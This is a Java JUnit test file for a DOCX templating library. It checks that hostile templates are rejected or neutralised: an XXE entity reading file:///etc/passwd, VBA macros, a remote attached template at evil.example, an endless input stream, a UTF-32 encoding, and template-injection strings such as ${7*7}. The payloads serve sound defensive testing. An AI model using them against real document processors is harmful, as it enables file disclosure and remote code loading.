// SPDX-License-Identifier: Apache-2.0
package org.jixiao.docx;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Templates that must be rejected before anything renders; each check of the compile pipeline. */
class HostileTemplateTest {
    private static List<String> codes(byte[] docx) {
        TemplateException e = assertThrows(TemplateException.class, () -> Fixture.compile(docx));
        return e.problems().stream()
                .map(p -> p.code() + " " + p.template().part())
                .toList();
    }

    private static String okBody() {
        return "<w:p><w:r><w:t>{{a}}</w:t></w:r></w:p>";
    }

    @Test
    void doctypeInAnyPartIsRejected() {
        byte[] docx = TestDocx.docx()
                .body(okBody())
                .replace(
                        "word/document.xml",
                        "<?xml version=\"1.0\"?>"
                                + "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document " + TestDocx.NS
                                + "><w:body>"
                                + "<w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>")
                .bytes();
        assertTrue(
                codes(docx).contains("template.doctype word/document.xml"),
                codes(docx).toString());
    }

    @Test
    void duplicateEntriesAreRejected() {
        RawZip zip = new RawZip();
        TestDocx.docx().body(okBody()).entries().forEach(zip::add);
        zip.add("word/document.xml", TestDocx.wrap("w:document", "<w:body><w:p/></w:body>"));
        assertTrue(codes(zip.bytes()).stream().anyMatch(c -> c.startsWith("template.zip.duplicate-entry")));
    }

    @Test
    void notAZipIsRejected() {
        assertEquals(
                "template.zip.not-a-zip",
                codes("just text".getBytes(java.nio.charset.StandardCharsets.UTF_8))
                        .get(0)
                        .split(" ")[0]);
    }

    @Test
    void anOversizedStreamIsRejectedWithoutReadingItAll() {
        long[] read = {0};
        InputStream endless = new InputStream() {
            @Override
            public int read() {
                read[0]++;
                return 0;
            }

            @Override
            public int read(byte[] b, int off, int len) {
                read[0] += len;
                return len;
            }
        };
        TemplateException e = assertThrows(TemplateException.class, () -> DocxTemplate.compile(endless));
        assertEquals("template.package.too-large", e.code());
        assertTrue(read[0] < 21 * 1024 * 1024, "read " + read[0]);
    }

    @Test
    void macrosAndExternalTemplatesAreRejected() {
        byte[] docx = TestDocx.docx()
                .body(okBody())
                .part("word/vbaProject.bin", "binary")
                .settings("<w:attachedTemplate r:id=\"rIdT\"/>")
                .relationship(
                        "<Relationship Id=\"rIdT\" Type=\"http://schemas.openxmlformats.org/"
                                + "officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>")
                .bytes();
        List<String> codes = codes(docx);
        assertTrue(codes.stream().anyMatch(c -> c.startsWith("template.macro")), codes.toString());
        assertTrue(codes.stream().anyMatch(c -> c.startsWith("template.external-relationship")), codes.toString());
    }

    @Test
    void cyclicStylesAreRejectedByName() {
        byte[] docx = TestDocx.docx()
                .body(okBody())
                .styles("<w:style w:type=\"paragraph\" w:styleId=\"A\"><w:basedOn w:val=\"B\"/></w:style>"
                        + "<w:style w:type=\"paragraph\" w:styleId=\"B\"><w:basedOn w:val=\"A\"/></w:style>")
                .bytes();
        assertTrue(
                codes(docx).stream().anyMatch(c -> c.startsWith("template.styles.cyclic-based-on word/styles.xml")),
                codes(docx).toString());
    }

    @Test
    void illFormedPartIsRejectedNamingThePart() {
        byte[] docx = TestDocx.docx()
                .body(okBody())
                .footer("rIdF", "footer1.xml", "<w:p><w:r><w:t>x</w:r></w:p>")
                .bytes();
        assertTrue(
                codes(docx).stream().anyMatch(c -> c.endsWith(" word/footer1.xml")),
                codes(docx).toString());
    }

    @Test
    void aPartDocx4jCannotUnmarshalIsRejectedNamingThePart() {
        byte[] docx = TestDocx.docx()
                .body(okBody())
                .related(
                        "rIdF",
                        "footer",
                        "word/footer1.xml",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml",
                        TestDocx.DECL
                                + "<unknown xmlns=\"urn:x\"><w:p xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/></unknown>")
                .bytes();
        assertEquals(List.of("template.part.unreadable word/footer1.xml"), codes(docx));
    }

    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    /** The body {@code {{a}}} with word/settings.xml attaching {@code target}, its relationships part named {@code rels}. */
    private static byte[] attaching(String target, String rels) {
        return TestDocx.docx()
                .body(okBody())
                .settings("<w:evenAndOddHeaders/><w:attachedTemplate r:id=\"rIdT\"/>")
                .part(
                        rels,
                        TestDocx.DECL
                                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + "<Relationship Id=\"rIdT\" Type=\"" + REL + "attachedTemplate\" Target=\"" + target
                                + "\" TargetMode=\"External\"/></Relationships>")
                .bytes();
    }

    @Test
    @Tag("hostile-templates")
    void aLocalAttachedTemplateIsAcceptedWithAWarningAndLeftOutOfTheOutput() {
        String target = "file:///C:\\Users\\张三\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm";
        DocxTemplate t = Fixture.compile(attaching(target, "word/_rels/settings.xml.rels"));
        assertEquals(
                List.of("template.attached-template.dropped word/settings.xml relationship rIdT"),
                t.warnings().stream()
                        .map(p -> p.code() + " " + p.template().part() + " "
                                + p.template().location())
                        .toList());
        byte[] docx = Fixture.render(t, Map.of("a", "甲"));
        String settings = Output.xml(docx, "word/settings.xml");
        String rels = Output.xml(docx, "word/_rels/settings.xml.rels");
        assertTrue(settings.contains("<w:evenAndOddHeaders/>"), settings);
        assertFalse(settings.contains("attachedTemplate"), settings);
        assertFalse(rels.contains("attachedTemplate"), rels);
        assertFalse(rels.contains("Normal.dotm"), rels);
        assertTrue(rels.contains("<Relationships"), rels);
    }

    @Test
    @Tag("hostile-templates")
    void aRemoteAttachedTemplateIsRefusedWhateverTheCaseOfItsRelationshipsPart() {
        for (String rels : List.of("word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS")) {
            assertEquals(
                    List.of("template.external-relationship word/settings.xml"),
                    codes(attaching("http://evil.example/t.dotm", rels)),
                    rels);
        }
    }

    @Test
    @Tag("hostile-templates")
    void anEncodingWordDoesNotReadIsRefusedWithoutParserNoiseOnStderr() throws Exception {
        String doc = "<w:document " + TestDocx.NS + "><w:body>" + okBody() + "</w:body></w:document>";
        byte[] utf32 = concat(new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF}, doc.getBytes("UTF-32BE"));
        RawZip zip = new RawZip();
        TestDocx.docx()
                .entries()
                .forEach((n, c) -> zip.add(
                        n,
                        n.equals("word/document.xml") ? utf32 : c.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        java.io.PrintStream original = System.err;
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        List<String> found;
        try {
            System.setErr(new java.io.PrintStream(err, true, "UTF-8"));
            found = codes(zip.bytes());
        } finally {
            System.setErr(original);
        }
        assertEquals(List.of("template.xml.encoding word/document.xml"), found);
        assertEquals("", err.toString("UTF-8"), "nothing on stderr");
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    @Test
    void expressionsInTheTemplateAreNeverEvaluated() {
        DocxTemplate t = Fixture.compileBody(Fixture.p("#{''.getClass()} ${7*7} <%= 7*7 %> [[${x}]]"));
        assertEquals("#{''.getClass()} ${7*7} <%= 7*7 %> [[${x}]]", Output.text(Fixture.render(t, Map.of())));
    }

    @Test
    void theStreamIsReadToItsEndAndNotClosed() {
        boolean[] closed = {false};
        InputStream in = new ByteArrayInputStream(Fixture.docx(Fixture.p("x"))) {
            @Override
            public void close() {
                closed[0] = true;
            }
        };
        DocxTemplate.compile(in);
        assertEquals(false, closed[0]);
    }
}
